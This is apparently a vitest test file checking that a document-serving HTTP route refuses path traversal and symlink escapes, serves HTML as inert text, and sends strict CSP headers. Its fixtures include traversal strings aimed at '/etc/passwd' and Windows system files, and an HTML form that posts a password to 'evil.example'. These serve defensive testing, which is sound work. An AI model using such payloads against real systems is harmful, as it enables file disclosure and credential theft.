import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Inventory } from "../../src/domain/assistant.js";
import { loadConfig } from "../../src/platform/config.js";
import { createHttpApp } from "../../src/http/app.js";
import { silentLogger } from "../../src/platform/logger.js";
import { FakeAssistant } from "../support/fakeAssistant.js";
import { listen, type Listening } from "../support/http.js";
import { tempDir } from "../support/knowledge.js";
import { MemoryFeedback } from "../support/memoryFeedback.js";

/** A knowledge folder with ordinary documents, an HTML one with a script, and symlinks that point out of it. */
function knowledgeWithTraps(): { knowledgeDir: string; secret: string } {
  const outside = tempDir("fw-outside-");
  const secret = join(outside, "secrets.txt");
  writeFileSync(secret, "DB_PASSWORD=hunter2\n");
  const knowledgeDir = tempDir("fw-sources-");
  mkdirSync(join(knowledgeDir, "ict"));
  writeFileSync(join(knowledgeDir, "ict", "profiel.md"), "# Profiel\n\nBelangen behartigen.\n");
  writeFileSync(
    join(knowledgeDir, "pagina.html"),
    '<h1>Pagina</h1><script>window.ran=1</script><form action="https://evil.example"><input type=password></form>',
  );
  writeFileSync(join(knowledgeDir, "niet-geindexeerd.txt"), "staat niet in de index\n");
  symlinkSync(secret, join(knowledgeDir, "leak.txt"));
  symlinkSync(outside, join(knowledgeDir, "uitweg"));
  return { knowledgeDir, secret };
}

class IndexedAssistant extends FakeAssistant {
  override inventory(): Inventory {
    const doc = (source: string) => ({
      source,
      title: source,
      system: "rijk",
      levels: [],
      competencies: 0,
      competencyNames: [],
      roles: [],
      careerEdges: [],
      facts: 0,
      tables: 0,
      warnings: [],
    });
    // The symlinks are listed too: the route must refuse them on its own, whatever the index holds.
    return { documents: ["ict/profiel.md", "pagina.html", "leak.txt", "uitweg/secrets.txt"].map(doc), skipped: [] };
  }
}

describe("citation sources: section text and read-only documents from the knowledge folder only", () => {
  let server: Listening;
  const { knowledgeDir } = knowledgeWithTraps();
  const get = (path: string) => fetch(`${server.url}${path}`);
  const document = (source: string) => get(`/api/document?source=${encodeURIComponent(source)}`);

  beforeAll(async () => {
    server = await listen(
      createHttpApp({
        config: loadConfig({ KNOWLEDGE_DIR: knowledgeDir }),
        logger: silentLogger,
        assistant: () => new IndexedAssistant(),
        feedback: new MemoryFeedback(),
      }),
    );
  });
  afterAll(() => server.close());

  it("returns the whole cited section, and 404 for an unknown one", async () => {
    const ok = await get(`/api/section?${new URLSearchParams({ source: "profiel.txt", section: "Competenties › Onderhandelen" })}`);
    expect(ok.status).toBe(200);
    expect(await ok.json()).toMatchObject({ title: "Profiel", system: "ufo", text: expect.stringContaining("Gedragsindicatoren") });
    expect((await get(`/api/section?${new URLSearchParams({ source: "profiel.txt", section: "Bestaat niet" })}`)).status).toBe(404);
    expect((await get("/api/section")).status).toBe(400);
  });

  it("serves an indexed document inline as plain text, in a sandbox", async () => {
    const response = await document("ict/profiel.md");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe("inline; filename*=UTF-8''profiel.md");
    expect(response.headers.get("content-security-policy")).toContain("sandbox");
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    expect(await response.text()).toContain("Belangen behartigen");
  });

  it("serves an HTML document as text, so its markup and script never run", async () => {
    const response = await document("pagina.html");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(response.headers.get("content-security-policy")).toMatch(/sandbox; default-src 'none'/);
    expect(await response.text()).toContain("<script>");
  });

  it("refuses .. segments, absolute paths and symlinks that leave the folder", async () => {
    for (const source of [
      "../../../etc/passwd",
      "ict/../../secrets.txt",
      "..\\..\\secrets.txt",
      "/etc/passwd",
      "C:\\Windows\\win.ini",
      "\\\\server\\share\\x.txt",
    ]) {
      const response = await document(source);
      expect(response.status, source).toBe(400);
      expect(await response.text()).not.toContain("root:");
    }
    for (const source of ["leak.txt", "uitweg/secrets.txt"]) {
      const response = await document(source);
      expect(response.status, source).toBe(404);
      expect(await response.text()).not.toContain("hunter2");
    }
  });

  it("refuses files the index does not hold, unknown types and missing files", async () => {
    expect((await document("niet-geindexeerd.txt")).status).toBe(404);
    expect((await document("ict/profiel.exe")).status).toBe(404);
    expect((await document("ict/weg.md")).status).toBe(404);
    expect((await get("/api/document")).status).toBe(400);
  });

  it("sends a CSP that allows no form targets, no <base> and no plugins on every page", async () => {
    const csp = (await get("/")).headers.get("content-security-policy")!;
    for (const directive of ["default-src 'self'", "form-action 'none'", "base-uri 'none'", "object-src 'none'", "frame-ancestors 'none'"])
      expect(csp).toContain(directive);
    expect(csp).not.toContain("unsafe-inline");
  });
});
